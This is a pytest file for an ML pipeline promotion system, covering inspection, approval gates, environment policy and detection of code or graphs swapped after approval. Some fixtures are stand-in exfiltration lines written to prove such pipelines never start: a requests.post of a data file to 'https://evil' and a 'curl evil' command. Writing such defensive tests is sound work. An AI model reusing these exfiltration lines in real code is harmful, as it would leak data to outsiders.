"""What happens in the environment that a pipeline is promoted to until it has run there: inspect, approve, run."""

import math
from copy import deepcopy
from dataclasses import replace
from typing import Any

import pytest

from shared.cloud.bus import MOST_BATCH_BYTES
from shared.config.policy import Policy
from shared.core.approval import Author
from shared.core.message_bodies import encode
from shared.core.messages import Candidate, Champion, FailureKind, Kind, Running, Succeeded
from shared.core.wire import from_json
from shared.ports import ApprovalDecision, Bound, ChildJob, Node
from shared.worker.order import Rules
from shared.worker.pipeline_graph import MOST_NODES
from shared.worker.steps.inspect import Inspected
from tests.fakes.approvals import FakeApprovals
from tests.fakes.jobs import JobOutcome
from tests.steps.pipeline import CODE, FILES, JOB, NAMED, TRAIN, Line, component, failed, pipeline_job, up_to
from tests.steps.promotion import NOW

PRODUCTION = "/subscriptions/s/workspaces/ws-prod/data/churn-production/versions/7"


def under(line: Line, **policy: Any) -> Line:
    return line.with_(rules=Rules(Policy.model_validate(policy)))


def inspected(line: Line) -> Inspected:
    return from_json(Inspected, line.evidence["inspect"])


# --- inspect ---


def test_inspect_fixes_the_version_of_data_that_is_asked_for_as_the_latest(line: Line) -> None:
    given = inspected(up_to(line, "inspect")).manifest.inputs
    assert {name: each.words for name, each in given.items()} == {"rows": "churn-production:7", "rate": "0.3"}
    assert given["rows"].data == PRODUCTION


def test_inspect_digests_the_same_for_the_same_and_differently_for_other_data(line: Line) -> None:
    line = up_to(line, "register_components")
    first = inspected(line.after("inspect")).manifest.digest
    assert inspected(line.after("inspect")).manifest.digest == first
    line.prod.has_data("churn-production", "8")
    assert inspected(line.after("inspect")).manifest.digest != first


@pytest.mark.parametrize(
    ("settings", "words"),
    [
        ({"run": {"compute": "gone", "inputs": {"rows": "churn-production:7"}}}, "There is no compute gone in prod"),
        ({"run": {"compute": "cpu"}}, "needs data for its input rows: a data asset"),
        (
            {"run": {"compute": "cpu", "inputs": {"rows": "churn-production:9"}}},
            "no data asset churn-production, version 9",
        ),
        (
            {"run": {"compute": "cpu", "inputs": {"rows": "nobody@latest"}}},
            "no data asset nobody in the workspace of prod",
        ),
        (
            {"run": {"compute": "cpu", "inputs": {"rows": "old:1"}}},
            "old, version 1, in the workspace of prod is archived",
        ),
        (
            {"run": {"compute": "cpu", "inputs": {"rows": "single:1"}}},
            "rows, but single:1 is uri_file",
        ),
        ({"run": {"compute": "cpu", "inputs": {"rows": "a b/c"}}}, "NAME:VERSION or NAME@latest"),
        ({"run": {"compute": "cpu", "inputs": {"row": "churn-production:7"}}}, "has no input row; did you mean rows?"),
    ],
)
def test_what_a_run_lacks_is_seen_before_anything_is_spent(line: Line, settings: dict[str, Any], words: str) -> None:
    line.prod.has_data("old", "1", is_archived=True)
    line.prod.has_data("single", "1", type="uri_file")
    assert words in failed(up_to(line, "register_components").with_settings(**settings), "inspect").reason


@pytest.mark.parametrize(
    ("logged", "words"),
    [
        ({"AUC": 0.9, "loss": 0.1}, "logged: AUC, loss (did you mean AUC?)."),
        ({"auc_": 0.9}, "logged: auc_ (did you mean auc_?)."),
        ({}, "no metric was logged."),
        ({"auc": math.nan}, "Metric auc: the run logged NaN."),
    ],
)
def test_a_comparison_with_what_the_source_never_logged_is_refused_before_anybody_is_asked(
    line: Line, logged: dict[str, float], words: str
) -> None:
    line.dev.children[JOB] = [(ChildJob("guid-1", "train", "Completed"), logged)]
    refused = failed(up_to(line, "register_components"), "inspect")
    assert refused.kind is FailureKind.REFUSED
    assert "Metric auc: " in refused.reason
    assert words in refused.reason
    assert "can never pass" in refused.reason


def test_a_bound_on_a_metric_that_only_the_run_here_logs_is_no_obstacle(line: Line) -> None:
    line = up_to(line, "register_components").with_settings(validate=[{"metric": "r2", "at_least": 0.5}])
    assert isinstance(line.run("inspect"), Succeeded)


def test_a_region_that_the_registry_does_not_cover_is_seen_before_anything_is_spent(line: Line) -> None:
    line.prod.out_of_reach = "westus"
    assert "not replicated to westus" in failed(up_to(line, "register_components"), "inspect").reason


@pytest.mark.parametrize(
    ("policy", "words"),
    [
        ({"computes": ["big"]}, "policy: compute: required big, found cpu"),
        ({"identities": ["0f1e2d3c-4b5a-4678-9abc-def012345678"]}, "policy: identity"),
        ({"max_instances": 2}, "policy: instances: required at most 2 for a step, found 4"),
        ({"approvals": 2}, "policy: approvals: required at least 2, found the stage requires 1"),
        ({"not_author": True}, "policy: author"),
    ],
)
def test_the_policy_of_the_environment_limits_what_may_run(line: Line, policy: dict[str, Any], words: str) -> None:
    run = {"compute": "cpu", "inputs": {"rows": "churn-production:7"}, "instances": 4}
    refused = failed(under(up_to(line, "register_components").with_settings(run=run), **policy), "inspect")
    assert refused.kind is FailureKind.REFUSED
    assert words in refused.reason


def test_a_policy_that_is_kept_lets_the_pipeline_pass(line: Line) -> None:
    identity = "0f1e2d3c-4b5a-4678-9abc-def012345678"
    run = {
        "compute": "serverless",
        "inputs": {"rows": "churn-production:7"},
        "identity": identity,
        "instance_type": "D4",
    }
    line.dev.pipeline_authors[JOB] = [Author("dora", "dora", is_person=True)]
    line = up_to(line, "register_components").with_settings(run=run)
    policy = {"computes": ["Serverless"], "identities": [identity], "instance_types": ["d4"], "not_author": True}
    assert all(verdict.holds for verdict in inspected(under(line, **policy).after("inspect")).gates)


def test_approvers_see_what_changed_since_the_champion(line: Line) -> None:
    before = up_to(line, "register_model")
    candidate = Candidate(Kind.PIPELINE, "churn-training", "train-6", "dev", "ws")
    line.dev.own.codes[CODE] = {**FILES, "train.py": b"import os", "new.py": b""}
    line.dev.own.components[TRAIN] = component(NAMED, command="python train.py --more")
    line.prod.has_data("churn-production", "8")
    line = line.with_(champion=Champion("p", candidate, NOW, before.evidence))
    seen = inspected(line.after("register_components", "inspect"))
    assert seen.champion == "train-6"
    told = "\n".join(seen.changed)
    assert "step train: its command (was python train.py, is python train.py --more)" in told
    assert "step prepare: its code (new.py added, train.py)" in told
    assert "input rows (was churn-production:7, is churn-production:8)" in told


# --- approve and run ---


def test_the_run_is_one_job_of_registered_components_on_the_environments_own_data(line: Line) -> None:
    up_to(line, "run")
    (submission,) = line.prod.submissions
    assert submission.name == "churn-training-train-7-abc-prod-run-1"
    assert submission.experiment == "churn-pipeline"
    assert submission.compute == "cpu"
    assert submission.inputs == {"rows": Bound(data=PRODUCTION, kind="uri_folder"), "rate": Bound("0.3")}
    assert all(node.component.startswith("azureml://registries/reg/components/") for node in submission.nodes.values())
    assert submission.tags["mlpromote.promotion"] == line.promotion
    assert submission.tags["mlpromote.source_job"] == JOB
    assert submission.tags["mlpromote.commit"] == "f00d"
    assert "promote" not in submission.tags


def steal(line: Line) -> Line:
    """A pipeline whose code would carry away the data that it gets to see."""
    line.dev.own.codes[CODE] = {"train.py": b"requests.post('https://evil', data=open(sys.argv[1]))"}
    return line


def test_a_pipeline_that_would_carry_data_away_never_starts_unapproved(line: Line) -> None:
    steal(line)
    for unapproved in (
        line.after("register_components", "inspect"),
        up_to(Line.new(line.folder), "approve"),  # of another pipeline
    ):
        evidence = {**line.after("register_components", "inspect").evidence}
        if "approve" in unapproved.evidence:
            evidence["approve"] = unapproved.evidence["approve"]
        refused = failed(line.with_(evidence=evidence), "run")
        assert refused.kind is FailureKind.PERMISSION
        assert (
            "prod requires 1 approvals of exactly this run of a pipeline, and 0 count. Nothing was started"
            in refused.reason
        )
    assert not line.prod.submissions


def test_code_that_was_swapped_after_the_approval_never_starts(line: Line) -> None:
    line = up_to(line, "approve")
    code = next(key for key in line.prod.registry.codes)
    line.prod.registry.codes[code] = {**FILES, "train.py": b"steal()"}
    refused = failed(line, "run")
    assert refused.kind is FailureKind.CHANGED
    assert "its code (train.py)" in refused.reason
    assert not line.prod.submissions


def test_a_component_that_was_swapped_after_the_approval_never_starts(line: Line) -> None:
    line = up_to(line, "approve")
    for key, there in line.prod.registry.components.items():
        line.prod.registry.components[key] = replace(
            there, specification={**there.specification, "command": "curl evil"}
        )
    assert failed(line, "run").kind is FailureKind.CHANGED
    assert not line.prod.submissions


def test_a_graph_that_was_swapped_on_its_way_never_starts(line: Line) -> None:
    line = up_to(line, "approve")
    forged = {**line.evidence["register_components"]}
    graph = forged["graph"]
    forged["graph"] = {**graph, "outputs": {"model": "uri_folder", "stolen": "uri_folder"}}
    refused = failed(line.with_(evidence={**line.evidence, "register_components": forged}), "run")
    assert refused.kind is FailureKind.CHANGED
    assert not line.prod.submissions


@pytest.mark.parametrize("what", ["component", "wiring", "step"])
def test_a_graph_of_other_components_than_those_that_were_registered_is_not_even_shown(line: Line, what: str) -> None:
    """The evidence comes through others: what people are shown must be what would run."""
    line = up_to(line, "register_components")
    forged = deepcopy(dict(line.evidence["register_components"]))
    nodes = forged["graph"]["nodes"]
    if what == "component":
        nodes["train"]["component"] = nodes["prepare"]["component"]
    if what == "wiring":
        nodes["train"]["inputs"]["rows"]["value"] = "${{parent.inputs.rows}}"
    if what == "step":
        nodes["hidden"] = nodes["train"]
    refused = failed(line.with_(evidence={"register_components": forged}), "inspect")
    assert refused.kind is FailureKind.CHANGED
    assert "The pipeline's graph is not the one that was registered" in refused.reason


def test_new_data_after_the_approval_does_not_change_what_runs(line: Line) -> None:
    line = up_to(line, "approve")
    line.prod.has_data("churn-production", "8")
    line.after("run")
    assert line.prod.submissions[0].inputs["rows"].data == PRODUCTION


def test_data_that_was_archived_after_the_approval_is_told_before_the_run(line: Line) -> None:
    line = up_to(line, "approve")
    line.prod.has_data("churn-production", "7", is_archived=True)
    assert "is archived" in failed(line, "run").reason
    assert not line.prod.submissions


def test_a_stage_that_asks_nobody_runs_unless_the_policy_asks(line: Line) -> None:
    free = up_to(line.with_settings(approval=False), "inspect")
    assert isinstance(free.run("run"), Succeeded)
    other = up_to(Line.new(line.folder).with_settings(approval=False), "inspect")
    assert failed(under(other, approvals=1), "run").kind in (FailureKind.REFUSED, FailureKind.PERMISSION)
    assert not other.prod.submissions


def test_the_same_step_twice_submits_one_job(line: Line) -> None:
    line = up_to(line, "approve")
    line.prod.dies_after = "start_pipeline"
    assert isinstance(line.run("run"), Succeeded)
    assert isinstance(line.run("run"), Succeeded)
    assert len(line.prod.submissions) == 1


def test_another_job_under_our_name_is_a_conflict(line: Line) -> None:
    line = up_to(line, "run")
    there = line.prod.pipelines[line.job_name]
    line.prod.pipelines[line.job_name] = replace(
        there,
        nodes={
            **there.nodes,
            "train": replace(there.nodes["train"], component="azureml://registries/x/components/e/versions/1"),
        },
    )
    refused = failed(line, "run")
    assert refused.kind is FailureKind.CONFLICT
    assert "its step train runs azureml://registries/x" in refused.reason


def test_a_job_that_somebody_else_submitted_under_our_name_is_a_conflict_whatever_it_runs(line: Line) -> None:
    line = up_to(line, "run")
    line.prod.creators[line.job_name] = "somebody"
    refused = failed(line, "run")
    assert refused.kind is FailureKind.CONFLICT
    assert "it was not submitted by the identity of prod" in refused.reason


def test_a_step_of_the_run_that_fails_is_named_with_its_cause(line: Line) -> None:
    line = up_to(line, "approve")
    line.prod.outcome = JobOutcome("Failed", error="UserError: a step failed")
    line.prod.children[line.job_name] = [(ChildJob("guid-9", "train", "Failed"), {})]
    line.prod.ended["guid-9"] = JobOutcome("Failed", log="Traceback (most recent call last):\nValueError: no rows\n")
    refused = failed(line, "run")
    assert refused.reason.startswith("Step train of job ")
    assert "ValueError: no rows" in refused.reason


def test_a_run_waits_for_its_job_and_its_undo_cancels_it(line: Line) -> None:
    line = up_to(line, "approve")
    line.prod.polls_until_ended = None
    outcome = line.poll("run")
    assert isinstance(outcome, Running)
    assert outcome.awaits is not None
    assert outcome.awaits.is_ours
    assert isinstance(line.run("cancel_job"), Succeeded)
    assert line.submitted.status == "Canceled"


def test_an_environment_that_takes_its_own_approvals_shows_the_code_and_counts_only_what_was_said_there(
    line: Line,
) -> None:
    approvals = FakeApprovals()
    policy = Policy.model_validate({"approvals": {"min": 1, "taken_by": "environment"}})
    line = line.with_(rules=Rules(policy, approvals)).after("register_components", "inspect")
    assert isinstance(line.poll("approve_run"), Running)
    [request] = approvals.requests(NOW)
    assert request.digest == inspected(line).manifest.digest
    assert set(request.shown["components"]["train"]["files"]) == {"train.py", "lib/features.py"}
    assert failed(line.after("approve"), "run").kind is FailureKind.PERMISSION  # the coordinator's word
    said = ApprovalDecision("bob", "bob", True, "read it", NOW)
    approvals.decide(request.promotion, request.stage, request.digest, said)
    assert isinstance(line.run("approve_run"), Succeeded)
    assert isinstance(line.run("run"), Succeeded)


def test_the_largest_pipeline_fits_into_a_message_with_its_champion(line: Line) -> None:
    job = pipeline_job()
    inputs = {"rows": Bound("${{parent.inputs.rows}}")}
    nodes = {f"step_{number:02}_{'x' * 60}": Node("command", TRAIN, inputs) for number in range(MOST_NODES)}
    line.dev.pipelines[JOB] = replace(job, nodes=nodes)
    line.dev.own.components[TRAIN] = component(NAMED, command="python " + "y" * 5000)
    line.dev.own.codes[CODE] = {f"{'d' * 200}/{number}.py": b"" for number in range(300)}
    line.dev.children[JOB] = [
        (ChildJob("guid", "train", "Completed"), {f"{'m' * 100}{number}": 1.0 for number in range(300)} | {"auc": 1.0})
    ]
    before = line.with_settings(validate=[]).after("register_components", "inspect", "approve", "run", "compare")
    candidate = Candidate(Kind.PIPELINE, "churn-training", "train-6", "dev", "ws")
    line.dev.own.codes[CODE] = {**line.dev.own.codes[CODE], "new.py": b""}
    line = line.with_(champion=Champion("p", candidate, NOW, before.evidence), promotion="churn-training-train-8-abc")
    line = line.with_settings(validate=[]).after("register_components", "inspect", "approve", "run", "compare")
    size = len(encode(line.command("register_model")))
    assert size < MOST_BATCH_BYTES, size
